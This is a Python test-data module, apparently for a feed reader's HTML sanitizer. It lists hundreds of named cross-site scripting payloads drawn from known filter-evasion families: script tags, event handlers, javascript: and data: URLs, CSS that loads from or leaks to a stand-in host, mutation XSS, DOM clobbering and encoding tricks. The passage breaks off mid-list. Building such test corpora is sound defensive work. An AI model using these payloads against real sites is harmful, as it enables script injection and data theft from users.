r"""Attempts to run a script, or to reach a stranger's server, by way of HTML that a feed carries.

In each, `HOOK` becomes a call of ``pwned`` with the payload's number, `POST` a message with it to
the top window (from documents of another origin), `CANARY` a URL that nobody may ask for, and
`CLOBBER` a name that must not become a property of the window.

A payload that is `dead` runs in no browser of today (Internet Explorer, old Firefox), needs a
person, or is written for another parser than a browser's: it has to be harmless, but there is
nothing to compare it with.
The families are those of the OWASP XSS Filter Evasion Cheat Sheet, of html5sec.org and of what
was found in DOMPurify, Ammonia and other sanitizers since; each is written here anew.
"""

from base64 import b64encode
from typing import NamedTuple


class Payload(NamedTuple):
    """One attempt."""

    name: str
    html: str
    dead: bool = False


_LIVE: dict[str, str] = {
    # Scripts as they are
    "script": "<script>HOOK</script>",
    "script in upper case": "<SCRIPT>HOOK</SCRIPT>",
    "script in mixed case with attributes": "<sCrIpT type=text/javascript x>HOOK</ScRiPt >",
    "script after a slash": "<script/x>HOOK</script>",
    "script with a line end in its tag": "<script\n>HOOK</script\n>",
    "script with a form feed in its tag": "<script\f>HOOK</script>",
    "script closed by junk": '<script>HOOK</script x="">',
    "script in a paragraph in bold": "<p><b><i><script>HOOK</script></i></b></p>",
    "script from elsewhere": '<script src="CANARY/a.js"></script>',
    "script from elsewhere without a scheme": "<script src=//canary.test/NUMBER/a.js></script>",
    "script from elsewhere with backslashes": r"<script src=\\canary.test\NUMBER\a.js></script>",
    "script as a module": '<script type="module">HOOK</script>',
    "script from a data URL": '<script src="data:text/javascript,HOOK"></script>',
    "script whose data URL is in base64": '<script src="data:;base64,BASE64"></script>',
    "script with an import": '<script type="module">import "CANARY/m.js"</script>',
    "script within a script's text": "<scr<script>ipt>HOOK</script><script>HOOK</script>",
    "script after an unclosed quote": '<p title="x><script>x</script>"></p><script>HOOK</script>',
    "script hidden by less-thans": "<<<script>HOOK//<</script>",
    "script opened twice": "<script>/*<script>*/HOOK</script>",
    "script with an HTML comment for JavaScript": "<script><!--\nHOOK\n//--></script>",
    "script in an SVG": "<svg><script>HOOK</script></svg>",
    "script in an SVG with entities": "<svg><script>&#112;wned(NUMBER)</script></svg>",
    "script in an SVG in CDATA": "<svg><script><![CDATA[HOOK]]></script></svg>",
    "script in an SVG by href": '<svg><script href="data:text/javascript,HOOK" /></svg>',
    "script in an SVG by xlink": '<svg><script xlink:href="data:text/javascript,HOOK"/></svg>',
    # Event handlers
    "img onerror": "<img src=x onerror=HOOK>",
    "img onerror in double quotes": '<img src="x" onerror="HOOK">',
    "img onerror in single quotes": "<img src='x' onerror='HOOK'>",
    "img onerror before src": '<img onerror="HOOK" src="x">',
    "img onerror without src": "<img src onerror=HOOK>",
    "img onerror by an empty src": '<img src="" onerror="HOOK">',
    "img onerror in upper case": "<IMG SRC=x ONERROR=HOOK>",
    "img with slashes for spaces": "<img/src='x'/onerror=HOOK>",
    "img with many slashes": '<img////src="x"///onerror="HOOK"//>',
    "img with tabs for spaces": "<img\tsrc=x\tonerror=HOOK>",
    "img with line ends for spaces": "<img\nsrc=x\nonerror\n=\nHOOK\n>",
    "img with form feeds for spaces": "<img\fsrc=x\fonerror=HOOK>",
    "img with carriage returns for spaces": "<img\rsrc=x\ronerror=HOOK>",
    "img with entities in its handler": "<img src=x onerror=&#112;wned&lpar;NUMBER&rpar;>",
    "img with hexadecimal entities": "<img src=x onerror=&#x70;wned&#x28;NUMBER&#x29;>",
    "img with entities without semicolons": "<img src=x onerror=&#112wned&#40+NUMBER&#41>",
    "img with padded entities": "<img src=x onerror=&#0000112wned(NUMBER)>",
    "img whose quotes touch": '<img src="x"onerror="HOOK">',
    "img with a quote in a name": '<img src="x" " onerror="HOOK">',
    "img with three quotes": '<img """><script>HOOK</script>">',
    "img with a backtick in a value": "<img src=`x` onerror=HOOK>",
    "img with backticks as a value": "<img alt=`<` src=x onerror=HOOK>",
    "img with a greater-than in a value": '<img alt=">" src=x onerror=HOOK>',
    "img with a tag in a value": '<img alt="<b>" src=x onerror=HOOK>',
    "img called image": "<image src=x onerror=HOOK>",
    "img with an equals sign first": "<img =x src=x onerror=HOOK>",
    "img whose handler comes twice": "<img src=x onerror=HOOK onerror=x>",
    "img by srcset": "<img srcset=x onerror=HOOK>",
    "img by candidates": '<img srcset="x 1x, y 2x" onerror="HOOK">',
    "img in a picture": "<picture><source srcset=x><img src=y onerror=HOOK></picture>",
    "img lazy by data-src": "<img data-src='x\" onerror=\"HOOK' src=y onerror=HOOK>",
    "img lazy with a broken value": "<img data-src='a.png' src='x' onerror='HOOK' _src=z>",
    "img that did load": '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=HOOK '
    "onerror=HOOK>",
    "body onload": "<body onload=HOOK>",
    "svg onload": "<svg onload=HOOK>",
    "svg onload with a slash": "<svg/onload=HOOK>",
    "svg onload in quotes": '<svg onload="HOOK"></svg>',
    "svg in svg onload": "<svg><svg onload=HOOK></svg></svg>",
    "video onerror": "<video src=x onerror=HOOK></video>",
    "video source onerror": "<video><source onerror=HOOK src=x></video>",
    "audio onerror": "<audio src=x onerror=HOOK></audio>",
    "video onloadstart": "<video src=x onloadstart=HOOK></video>",
    "iframe onload": "<iframe onload=HOOK></iframe>",
    "object onerror": "<object data=x onerror=HOOK></object>",
    "embed onload or onerror": "<embed src=data:image/gif, onload=HOOK onerror=HOOK>",
    "style onload": "<style onload=HOOK></style>",
    "link onerror": '<link rel=stylesheet href="CANARY/l.css" onerror=HOOK>',
    "input onfocus autofocus": "<input onfocus=HOOK autofocus>",
    "details ontoggle": "<details open ontoggle=HOOK>x</details>",
    "onclick": "<p onclick=HOOK>x</p>",
    "onmouseover": '<p onmouseover="HOOK">x</p>',
    "onmouseenter": '<b onmouseenter="HOOK">x</b>',
    "onpointerover": '<a href="#" onpointerover="HOOK">x</a>',
    "onkeydown": '<p onkeydown="HOOK">x</p>',
    "oncontextmenu": "<div oncontextmenu=HOOK>x</div>",
    "ondragstart": "<img src=x draggable=true ondragstart=HOOK>",
    "onwheel": "<li onwheel=HOOK>x</li>",
    "oncopy": "<p oncopy=HOOK>x</p>",
    "onclick of an unknown element": "<blink onclick=HOOK>x</blink>",
    "onclick of a custom element": "<x-y onclick=HOOK>x</x-y>",
    "onclick in a table": "<table><tr><td onclick=HOOK>x</td></tr></table>",
    "onclick of a heading": "<h1/onclick=HOOK//>x</h1>",
    "onanimationstart": "<style>@keyframes x{}</style><p style='animation:x 1s' "
    "onanimationstart=HOOK>x</p>",
    "onfocus by tabindex": "<p tabindex=1 onfocus=HOOK autofocus>x</p>",
    "onbeforetoggle of a popover": "<button popovertarget=pNUMBER>x</button>"
    "<div id=pNUMBER popover onbeforetoggle=HOOK>y</div>",
    "SVG animation's onbegin": "<svg><animate onbegin=HOOK attributeName=x dur=1s></svg>",
    "SVG set's onbegin": "<svg><set onbegin=HOOK attributename=x></svg>",
    "onclick in MathML": "<math><mi onclick=HOOK>x</mi></math>",
    "onerror of an SVG image": "<svg><image href=x onerror=HOOK /></svg>",
    # javascript: and its kin, where a URL may stand
    "a href": '<a href="javascript:HOOK">x</a>',
    "a href in mixed case": '<a href="JaVaScRiPt:HOOK">x</a>',
    "a href without quotes": "<a href=javascript:HOOK>x</a>",
    "a href with spaces before": '<a href="   javascript:HOOK">x</a>',
    "a href with controls before": '<a href="&#1;&#8;&#14;javascript:HOOK">x</a>',
    "a href with a tab within": '<a href="java&#9;script:HOOK">x</a>',
    "a href with a named tab": '<a href="java&Tab;script:HOOK">x</a>',
    "a href with a named line end": '<a href="java&NewLine;script&colon;HOOK">x</a>',
    "a href with line ends everywhere": '<a href="j\na\nv\na\ns\nc\nr\ni\np\nt\n:HOOK">x</a>',
    "a href with a carriage return": '<a href="java&#xD;script:HOOK">x</a>',
    "a href in decimal entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;'
    '&#116;&#58;HOOK">x</a>',
    "a href in hexadecimal entities": '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70'
    '&#x74&#x3A;HOOK">x</a>',
    "a href in padded entities": '<a href="&#0000106&#0000097&#0000118avascript:HOOK" href="'
    '&#0000106avascript:HOOK">x</a><a href="&#0000106avascript:HOOK">y</a>',
    "a href with a comment that looks like a URL": '<a href="javascript://x.test/%0AHOOK">x</a>',
    "a href with a port and a path": '<a href="javascript:HOOK//https://x.test/">x</a>',
    "a href percent-encoded": '<a href="javascript:%70wned(NUMBER)">x</a>',
    "a href with an image within": '<a href="javascript:HOOK"><img src=x></a>',
    "a href named twice": '<a href="javascript:HOOK" href="https://x.test/">x</a>',
    "a href of HTML in a data URL": '<a href="data:text/html,<script>POST</script>">x</a>',
    "a href of HTML in base64": '<a href="data:text/html;base64,B64POST">x</a>',
    "a href in a base": '<base href="javascript:/a/-HOOK///////"><a href=../lol/safari.html>x</a>'
    "<a href=javascript:HOOK>y</a>",
    "area href": '<map name=m><area shape=default href="javascript:HOOK">x</map>',
    "form action": '<form action="javascript:HOOK"><input type=submit></form>',
    "button formaction": '<form><button formaction="javascript:HOOK">x</button></form>',
    "input formaction": '<form><input type=submit formaction="javascript:HOOK"></form>',
    "button of another form": "<form id=fNUMBER></form><button form=fNUMBER "
    'formaction="javascript:HOOK">x</button>',
    "iframe src": '<iframe src="javascript:top.HOOK"></iframe>',
    "iframe src in mixed case with a tab": '<iframe src="jAva&Tab;script:top.HOOK"></iframe>',
    "iframe src of a data URL": '<iframe src="data:text/html,<script>POST</script>"></iframe>',
    "iframe src of a stranger": '<iframe src="CANARY/frame"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>top.HOOK</script>"></iframe>',
    "iframe srcdoc in entities": "<iframe srcdoc='&lt;svg onload=&quot;top.HOOK&quot;&gt;'>",
    "iframe srcdoc beside a player": '<iframe src="https://www.youtube.com/embed/a" '
    'srcdoc="<script>top.HOOK</script>"></iframe>',
    "iframe of a player's other page": '<iframe src="https://www.youtube.com/embed/../redirect?q='
    'CANARY"></iframe><iframe src="CANARY/"></iframe>',
    "iframe of a player's other page, encoded": '<iframe src="https://www.youtube.com/embed/%2E%2e'
    '/redirect?q=CANARY"></iframe><iframe src="CANARY/"></iframe>',
    "iframe of a name that begins as a player": '<iframe src="https://www.youtube.com.canary.test'
    '/embed/x"></iframe><iframe src="CANARY/"></iframe>',
    "iframe of a player as a user": '<iframe src="https://www.youtube.com/embed/@canary.test/">'
    '</iframe><iframe src="CANARY/"></iframe>',
    "iframe lazy": '<iframe data-src="CANARY/f" src="CANARY/f"></iframe>',
    "iframe that ends in text": '<iframe src="CANARY/f"><script>HOOK</script>',
    "frameset": '<frameset><frame src="javascript:top.HOOK"></frameset><iframe src="javascript:'
    'top.HOOK"></iframe>',
    "object data": '<object data="javascript:HOOK"></object><object data="CANARY/o"></object>',
    "object of HTML in a data URL": '<object data="data:text/html,<script>POST</script>"></object>',
    "embed src": '<embed src="javascript:HOOK"><embed src="CANARY/e">',
    "embed of HTML in a data URL": '<embed src="data:text/html,<script>POST</script>">',
    "applet and object with parameters": '<applet code="CANARY/c.class"></applet>'
    '<object><param name=src value="CANARY/p"></object><embed src="CANARY/e">',
    "video poster": '<video poster="x.png" onerror=HOOK src=x></video>',
    "SVG a href": '<svg><a href="javascript:HOOK"><text y=20>x</text></a></svg>',
    "SVG a xlink:href": '<svg><a xlink:href="javascript:HOOK"><text y=20>x</text></a></svg>',
    "SVG a xlink:href with white space": '<svg><a xlink:href=" java&#10;script:HOOK">'
    "<text y=20>x</text></a></svg>",
    "SVG a href by animation": "<svg><a><animate attributeName=href values=javascript:HOOK />"
    "<text y=20>x</text></a></svg>",
    "SVG a href by set": "<svg><a><set attributeName=href to=javascript:HOOK />"
    "<text y=20>x</text></a></svg>",
    "SVG image of a stranger": '<svg><image href="CANARY/i.svg"/></svg>',
    "SVG feImage of a stranger": '<svg width=9 height=9><filter id=qNUMBER><feImage href="CANARY'
    '/i.png"/></filter><rect width=9 height=9 filter="url(#qNUMBER)"/></svg>',
    "meta refresh to a stranger": '<meta http-equiv="refresh" content="0;url=CANARY/r">',
    "meta refresh in mixed case": "<MeTa HTTP-EQUIV=rEfReSh CONTENT='0; URL=CANARY/r'>",
    "base of a stranger": '<base href="CANARY/"><img src="logo.png">',
    "link to a style sheet": '<link rel="stylesheet" href="CANARY/l.css">',
    "link to preload": '<link rel="preload" as="script" href="CANARY/l.js">',
    "link to a module": '<link rel="modulepreload" href="CANARY/l.mjs">',
    "body background": '<body background="CANARY/b.png">',
    "table background": '<table background="CANARY/b.png"><tr><td>x</td></tr></table>',
    "td background": '<table><tr><td background="CANARY/b.png">x</td></tr></table>',
    "input as an image": '<input type=image src="CANARY/i.png" onerror=HOOK>',
    # CSS
    "style import": "<style>@import 'CANARY/c.css';</style>",
    "style import by url": "<style>@import url(CANARY/c.css);</style>",
    "style import without an end": "<style>@import'CANARY/c.css'",
    "style with escapes": r"<style>@\69mport 'CANARY/c.css';</style>",
    "style in an SVG": "<svg><style>@import 'CANARY/c.css';</style></svg>",
    "style attribute with a url": '<p style="background:url(CANARY/b.png)">x</p>',
    "style attribute with escapes": r'<p style="b\61 ckground:u\72l(CANARY/b.png)">x</p>',
    "style attribute with comments": '<p style="back/**/:x;background:/**/url(CANARY/b.png)">x</p>',
    "style attribute with an image set": "<p style=\"background-image:image-set('CANARY/b.png' "
    '1x)">x</p>',
    "style attribute with a list image": '<ul><li style="list-style:url(CANARY/b.png)">x</li></ul>',
    "style attribute with generated content": '<b style="content:url(CANARY/b.png)">x</b>',
    "style attribute with a cursor": '<p style="border-image:url(CANARY/b.png) 1">x</p>',
    "style with a font": "<style>@font-face{font-family:fNUMBER;src:url(CANARY/f.woff)}"
    "#zNUMBER{font-family:fNUMBER}</style><p id=zNUMBER>x</p>",
    "style with a selector that leaks": "<style>#yNUMBER[title^=s]{background:url(CANARY/s)}"
    "</style><p id=yNUMBER title=secret>x</p>",
    # Raw text: what one parser takes for text, another for markup
    "noscript breakout": '<noscript><p title="</noscript><img src=x onerror=HOOK>"></noscript>',
    "noscript in a div": '<div><noscript><b alt="</noscript><script>HOOK</script>"></b></div>',
    "style breakout": '<style><p title="</style><img src=x onerror=HOOK>"></style>',
    "style breakout in a value": '<style><a title="</style><script>HOOK</script>">',
    "title breakout": '<title><p title="</title><img src=x onerror=HOOK>"></title>',
    "textarea breakout": '<textarea><p title="</textarea><img src=x onerror=HOOK>"></textarea>',
    "xmp breakout": '<xmp><p title="</xmp><img src=x onerror=HOOK>"></xmp>',
    "iframe breakout": '<iframe><p title="</iframe><img src=x onerror=HOOK>"></iframe>',
    "noembed breakout": '<noembed><p title="</noembed><img src=x onerror=HOOK>"></noembed>',
    "noframes breakout": '<noframes><p title="</noframes><img src=x onerror=HOOK>"></noframes>',
    "listing and its line end": "<listing>\n<img src=x onerror=HOOK></listing>",
    "script's text that closes a style": "<script>x='</script><img src=x onerror=HOOK>'</script>",
    "select breakout": "<select><option><style></option></select><img src=x onerror=HOOK></style>"
    "</select><img src=x onerror=HOOK>",
    "select with a stray tag": "<select><img src=x onerror=HOOK></select><b onclick=HOOK>x</b>",
    # Mutation: what is harmless when parsed once and not when parsed twice
    "mXSS of an SVG's style": '<svg></p><style><a id="</style><img src=x onerror=HOOK>">',
    "mXSS of MathML's style": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=x onerror=HOOK&gt;"><img src=x onerror=HOOK>',
    "mXSS of nested forms": "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src=x onerror=HOOK>",
    "mXSS of a comment in MathML": "<math><mtext><table><mglyph><style><![CDATA[</style>"
    '<img title="]]&gt;&lt;img src=x onerror=HOOK&gt;"><img src=x onerror=HOOK>',
    "mXSS of a title in SVG": '<svg><title><style><img title="</style><img src=x onerror=HOOK>">',
    "mXSS of a desc in SVG": '<svg><desc><noscript><p title="</noscript><img src=x onerror=HOOK>">',
    "mXSS of a foreign object": '<svg><foreignObject><p><style><b title="</style>'
    '<img src=x onerror=HOOK>">',
    "mXSS of annotations": '<math><annotation-xml encoding="text/html"><style>'
    '<b title="</style><img src=x onerror=HOOK>"></style></annotation-xml></math>',
    "mXSS of annotations that are SVG": "<math><annotation-xml><svg><foreignObject><style>"
    '<b title="</style><img src=x onerror=HOOK>">',
    "mXSS of an anchor in a table": '<table><a href="javascript:HOOK">x<tr><td></a><img src=x '
    "onerror=HOOK></table>",
    "mXSS of a table in a paragraph": "<p><table><p><img src=x onerror=HOOK><td></table></p>",
    "mXSS of a template": "<template><style></template><img src=x onerror=HOOK></style></template>"
    "<img src=x onerror=HOOK>",
    "mXSS of a template's table": "<template><tr><td><svg></template><img src=x onerror=HOOK>",
    "mXSS of backticks": '<img alt="``onerror=HOOK" src="x" onerror=HOOK>',
    "mXSS of a paragraph in SVG": "<svg><p><style><!--</style><img src=x onerror=HOOK>--></style>",
    "mXSS of a break in MathML": "<math><br><style><!--</style><img src=x onerror=HOOK>--></style>",
    "mXSS of a font in SVG": '<svg><font color=x><style><a title="</style><img src=x '
    'onerror=HOOK>"></style>',
    "mXSS of a malignmark": "<math><mi><malignmark><style><img src=x onerror=HOOK></style>"
    "</malignmark></mi></math><img src=x onerror=HOOK>",
    "mXSS of formatting in blocks": "<b><p onclick=HOOK>x</b>y</p>",
    "mXSS of an anchor in an anchor": '<a href="x"><div><a href="javascript:HOOK">y</a></div></a>',
    "mXSS of a button in a button": "<button><b><button onclick=HOOK>x</button></b></button>",
    "mXSS of a nobr": "<nobr><p><nobr onclick=HOOK>x</nobr></p></nobr>",
    "mXSS of depth": "<div>" * 520 + "<table><caption><svg><title><style><a title='</style>"
    "<img src=x onerror=HOOK>'>",
    "mXSS of an end tag with attributes": '</p title="<"><img src=x onerror=HOOK>">',
    "mXSS of a ruby": "<ruby><rt><svg><style></rt><img src=x onerror=HOOK></style></ruby>",
    "mXSS of a body's attributes": "<p>x<body onclick=HOOK><html onclick=HOOK><b onclick=HOOK>y",
    "mXSS of an image called image in SVG": "<svg><image></svg><image src=x onerror=HOOK>",
    "mXSS of entities that come twice": "&lt;img src=x onerror=HOOK&gt;<img src=x onerror=HOOK>",
    "mXSS of a summary": "<details open><summary><svg><style></summary><img src=x onerror=HOOK>",
    # Comments, declarations, CDATA and processing instructions
    "comment ended early": "<!--><img src=x onerror=HOOK>-->",
    "comment ended early with a dash": "<!---><img src=x onerror=HOOK>-->",
    "comment ended with an exclamation mark": "<!-- --!><img src=x onerror=HOOK> -->",
    "comment that opens twice": "<!-- <!-- --><img src=x onerror=HOOK> -->",
    "comment that is bogus": "<!x><img src=x onerror=HOOK>",
    "comment that is an end tag": "</ x><img src=x onerror=HOOK>",
    "comment that is conditional": "<!--[if gte IE 4]><script>HOOK</script><![endif]-->"
    "<!--><script>HOOK</script>-->",
    "comment with a quote": '<!--"--><img src=x onerror=HOOK><!--"-->',
    "CDATA in HTML": "<![CDATA[><img src=x onerror=HOOK>]]>",
    "CDATA in SVG": "<svg><![CDATA[><img src=x onerror=HOOK>]]></svg><img src=x onerror=HOOK>",
    "CDATA ended twice": "<![CDATA[x]]>]]><img src=x onerror=HOOK>",
    "processing instruction": "<?xml version='1.0'?><img src=x onerror=HOOK>",
    "processing instruction with a greater-than": "<?php '>' ?><img src=x onerror=HOOK>",
    "declaration with a bracket": "<!DOCTYPE x [<!ENTITY y '>'><img src=x onerror=HOOK>]>",
    "declaration of an attribute": "<!ATTLIST p onclick CDATA 'x'><p onclick=HOOK>x</p>",
    "server-side include": "<!--#exec cmd='x'--><img src=x onerror=HOOK>",
    # Quoting
    "attribute that ends at the end": "<b onclick=HOOK>x</b><img src=x onerror=HOOK",
    "attribute name with a quote": '<img src=x "onerror=x" onerror=HOOK>',
    "attribute name with a less-than": "<img <b src=x onerror=HOOK>",
    "attribute name with a slash": "<img src=x a/onerror=HOOK>",
    "attribute value with a slash at its end": "<img src=x/ onerror=HOOK//>",
    "attribute value with entities for quotes": '<img src=x title="&quot; onerror=x" onerror=HOOK>',
    "tag with a colon": "<x:script>HOOK</x:script><b onclick=HOOK>x</b>",
    "tag with a dot": "<b.x onclick=HOOK>x</b.x>",
    "tag that never closes": "<p/<b/onclick=HOOK>x",
    "tag after a backslash": r"\"><img src=x onerror=HOOK>",
    "text that ends a value": "'\"><img src=x onerror=HOOK>",
    "text that ends everything": "'\"></title></style></textarea></script><img src=x onerror=HOOK>",
    "text that closes the page": "</div></article></body></html><script>HOOK</script>",
    # The DOM clobbered
    "clobber by id": "<a id=CLOBBER href=x>x</a>",
    "clobber by name": "<img name=CLOBBER>",
    "clobber by a form's name": "<form name=CLOBBER><input name=attributes></form>",
    "clobber by an iframe's name": "<iframe name=CLOBBER></iframe>",
    "clobber by an object's id": "<object id=CLOBBER></object>",
    "clobber by two of one id": "<a id=CLOBBER></a><a id=CLOBBER name=y href=x></a>",
    "clobber by an SVG's id": "<svg id=CLOBBER></svg>",
    "clobber by an embed's name": "<embed name=CLOBBER>",
    # Broken characters
    "NUL in a tag": "<scr\0ipt>HOOK</scr\0ipt><script>HOOK</script>",
    "NUL in a name": "<img src=x on\0error=HOOK onerror=HOOK>",
    "NUL in a scheme": '<a href="java\0script:HOOK">x</a><a href="javascript:HOOK">y</a>',
    "NUL before a scheme": '<a href="\0javascript:HOOK">x</a><a href="&#1;javascript:HOOK">y</a>',
    "NUL in a style": "<style>\0</style\0></style><img src=x onerror=HOOK>",
    "controls in a handler": "<img src=x onerror=\x0bHOOK\x01 onload=HOOK><img src=y onerror=HOOK>",
    "controls before a scheme": '<a href="\x01\x02\x1fjavascript:HOOK">x</a>',
    "a lone surrogate": "<img src=x \ud800 onerror=HOOK>",
    "a lone surrogate in a value": '<img src=x alt="\udc00" onerror=HOOK>',
    "a noncharacter": "<img src=x \ufffe onerror=HOOK \uffff>",
    "a right-to-left override": "<p onclick=HOOK>\u202e>tpircs<</p>",
    "full-width signs": "＜script＞HOOK＜/script＞<img src=x onerror=HOOK>",
    "a dotless i and a long s": "<ſcript>HOOK</ſcript><ımg src=x onerror=HOOK><img src=x "
    "onerror=HOOK>",
    "a byte order mark": "\ufeff<img\ufeff src=x onerror=x><img src=x onerror=HOOK>",
    "an ideographic space": "<img\u3000src=x onerror=x><img src=x\u3000 onerror=HOOK>",
    "a line separator": "<img src=x\u2028onerror=x><img src=x onerror=HOOK>",
}

_DEAD: dict[str, str] = {
    "mXSS of a plaintext in a table": "<table><plaintext><img src=x onerror=HOOK></table>"
    "<b onclick=HOOK>",
    "mXSS of a caption": "<table><caption><svg><p><style></caption><img src=x onerror=HOOK>",
    "mXSS of a table's foster parent": "<table><svg><style><tr><td><b title='</style>"
    "<img src=x onerror=HOOK>'></table>",
    "MathML href": '<math href="javascript:HOOK"><mi>x</mi></math>'
    '<math><a href="javascript:HOOK">y</a></math>',
    "marquee onstart": "<marquee onstart=HOOK>x</marquee>",
    "script in MathML": "<math><script>HOOK</script></math>",
    "attribute without an end": "<img src=x onerror=HOOK title='",
    "vbscript": '<a href="vbscript:HOOK">x</a><img src="vbscript:HOOK">',
    "livescript and mocha": '<img src="livescript:HOOK"><img src="mocha:HOOK">',
    "img src": '<img src="javascript:HOOK">',
    "img src with a tab": '<img src="jav&#x09;ascript:HOOK">',
    "img dynsrc and lowsrc": '<img dynsrc="javascript:HOOK" lowsrc="javascript:HOOK">',
    "img srcset": '<img srcset="javascript:HOOK 1x, data:image/svg+xml,<svg onload=HOOK> 2x">',
    "img of SVG in a data URL": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/"
    "svg' onload='POST'/>\">",
    "img of SVG called a gif": '<img src="data:image/gif,<svg onload=POST>">',
    "video and audio src": '<video src="javascript:HOOK"></video><audio src="javascript:HOOK">',
    "source src and track src": '<video><source src="javascript:HOOK"><track default src="'
    'javascript:HOOK"></video>',
    "q cite": '<q cite="javascript:HOOK">x</q><blockquote cite="data:text/html,x">y</blockquote>',
    "ins and del cite": '<ins cite="javascript:HOOK">x</ins><del cite="vbscript:x">y</del>',
    "body background as a script": '<body background="javascript:HOOK">',
    "bgsound and layer": '<bgsound src="javascript:HOOK"><layer src="CANARY/l"></layer>',
    "link as a script": '<link rel="stylesheet" href="javascript:HOOK">',
    "isindex": '<isindex action="javascript:HOOK" type=image>',
    "a ping": '<a href="https://x.test/" ping="CANARY/ping">x</a>',
    "a target and opener": '<a href="https://x.test/" target="_top" rel="opener">x</a>',
    "meta refresh to a script": '<meta http-equiv="refresh" content="0;url=javascript:HOOK">',
    "meta refresh to a data URL": '<meta http-equiv=refresh content="0;url=data:text/html,'
    '<script>POST</script>">',
    "meta with a cookie": '<meta http-equiv="Set-Cookie" content="a=b">',
    "meta with a charset": '<meta http-equiv="Content-Type" content="text/html; charset=utf-7">'
    "+ADw-script+AD4-HOOK+ADw-/script+AD4-",
    "CSS expression": '<p style="width:expression(HOOK)">x</p>',
    "CSS expression with comments": '<p style="xss:expr/*x*/ession(HOOK)">x</p>',
    "CSS behavior": '<p style="behavior:url(CANARY/b.htc)">x</p>',
    "CSS binding": '<p style="-moz-binding:url(CANARY/b.xml#x)">x</p>',
    "CSS url of a script": '<p style="background:url(javascript:HOOK)">x</p>',
    "CSS import of a script": "<style>@import 'javascript:HOOK';</style>",
    "style of a script": '<style type="text/javascript">HOOK</style>',
    "XML data island": '<xml id=x><a><b>&lt;img src=x onerror=HOOK&gt;</b></a></xml>'
    "<span datasrc=#x datafld=b dataformatas=html></span>",
    "HTML+TIME": '<t:set attributeName="innerHTML" to="&lt;img src=x onerror=HOOK&gt;">',
    "SVG use of a data URL": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3."
    "org/2000/svg'><image href='1' onerror='HOOK'/></svg>#x\"/></svg>",
    "SVG handler element": '<svg><handler type="text/javascript" ev:event="load">HOOK</handler>',
    "MathML action": '<math><maction actiontype="statusline#x" xlink:href="javascript:HOOK">x'
    "</maction></math>",
    "MathML xlink": '<math xlink:href="javascript:HOOK">x</math>',
    "plaintext": "<plaintext><img src=x onerror=HOOK>",
    "import and portal": '<link rel=import href="CANARY/i"><portal src="CANARY/p"></portal>',
    "prefetch": '<link rel="dns-prefetch" href="//canary.test"><link rel=prerender href="CANARY/">',
    "import map": '<script type="importmap">{"imports":{"a":"CANARY/m.js"}}</script>',
    "speculation rules": '<script type="speculationrules">{"prerender":[{"urls":["CANARY/"]}]}'
    "</script>",
    "UTF-7": "+ADw-script+AD4-HOOK+ADw-/script+AD4-",
    "UTF-16 in entities": "&#60;script&#62;HOOK&#60;/script&#62;",
    "entities without semicolons": "&lt<script&gtHOOK&ltscript&gt",
    "named entities": "&lt;script&gt;HOOK&lt;/script&gt;",
    "JavaScript's escapes": r"\x3cscript\x3eHOOK\x3c/script\x3e \u003cscript\u003eHOOK",
    "percent-encoding": "%3Cscript%3EHOOK%3C/script%3E",
    "half-width and modifier letters": "﹤script﹥HOOK﹤/script﹥ ʺonclick=HOOK",
    "overlong read as Latin-1": "À¼scriptÀ¾HOOKÀ¼/scriptÀ¾",
    "a template's expressions": "{{constructor.constructor('HOOK')()}} ${HOOK} <%= HOOK %>",
    "shadow root": "<div><template shadowrootmode=open><img src=x onerror=HOOK></template></div>",
    "a dialog that closes": '<dialog open><form method=dialog><button formaction="javascript:HOOK'
    '">x</button></form></dialog>',
    "a keygen and a menu item": "<keygen onfocus=HOOK><menuitem icon=javascript:HOOK onclick=HOOK>",
    "Markdown link": "[x](javascript:HOOK)",
    "Markdown link in mixed case": "[x](  JaVaScRiPt:HOOK 't')",
    "Markdown link in entities": "[x](&#106;avascript:HOOK) [y](javascript&colon;HOOK)",
    "Markdown link in brackets": "[x](<java\tscript:HOOK>)",
    "Markdown link of a data URL": "[x](data:text/html;base64,B64POST)",
    "Markdown autolink": "<javascript:HOOK> <data:text/html,x>",
    "Markdown reference": "[x]\n\n[x]: javascript:HOOK",
    "Markdown image": "![x](javascript:HOOK)",
    "Markdown image that ends its value": '![x](x"onerror="HOOK) ![y" onerror="HOOK](y)',
    "Markdown title that ends its value": "[x](https://x.test/ '\" onclick=\"HOOK')",
    "Markdown code": '```"><img src=x onerror=HOOK>\n<script>HOOK</script>\n```',
    "Markdown code in a line": "`<img src=x onerror=HOOK>`",
    "Markdown in HTML": "<div>\n\n[x](javascript:HOOK)\n\n</div>",
    "Markdown heading": "# <img src=x onerror=HOOK>\n\nx",
    "Markdown table": "|<img src=x onerror=HOOK>|\n|-|\n|[x](javascript:HOOK)|",
    "Markdown escapes": r"\<img src=x onerror=HOOK\> \[x](javascript:HOOK)",
}  # fmt: skip

PAYLOADS = (
    *(Payload(name, html) for name, html in _LIVE.items()),
    *(Payload(name, html, dead=True) for name, html in _DEAD.items()),
)

_LIVE_URLS = (
    "javascript:HOOK",
    "JAVASCRIPT:HOOK",
    "  javascript:HOOK",
    "java\tscript:HOOK",
    "java\nscript:HOOK",
    "java\r\nscript:HOOK",
    "\x01javascript:HOOK",
    "javascript://x.test/%0aHOOK",
)
_DEAD_URLS = (
    "\u00a0javascript:HOOK",
    "javascript&#58;HOOK",
    "javascript&colon;HOOK",
    "&#106;avascript:HOOK",
    "javascript:alert(NUMBER)",
    "feed:javascript:HOOK",
    "feed:data:text/html,<script>POST</script>",
    "view-source:javascript:HOOK",
    "jar:javascript:HOOK!/",
    "vbscript:HOOK",
    "data:text/html,<script>POST</script>",
    "data:text/html;base64,B64POST",
    "data:image/svg+xml,<svg onload=POST>",
    "data:,HOOK",
    "DATA:TEXT/HTML,<script>POST</script>",
    "blob:https://x.test/1",
    "filesystem:https://x.test/1",
    "file:///etc/passwd",
    "about:blank#HOOK",
    "ms-settings:x",
    "intent://x.test#Intent;scheme=javascript;end",
    'https://x.test/"onclick="HOOK',
    "https://x.test/'onclick='HOOK",
